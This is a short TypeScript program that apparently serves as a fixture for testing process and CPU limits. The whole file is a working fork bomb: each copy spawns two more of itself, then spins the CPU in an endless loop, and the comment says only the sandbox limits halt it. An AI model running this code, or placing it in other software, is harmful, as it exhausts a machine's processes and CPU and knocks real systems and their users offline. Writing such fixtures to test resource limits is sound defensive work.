import { spawn } from 'child_process';
// Each copy starts two more of itself: the process limit stops the growth, the CPU limit the run.
const start = (): void => {
  try {
    spawn(process.execPath, [__filename], { stdio: 'ignore' }).on('error', () => {});
  } catch {
    // Refused at the process limit: keep spinning.
  }
};
start();
start();
let counter: number = 0;
while (counter >= 0) counter = (counter * 31 + 7) & 0xffffff;
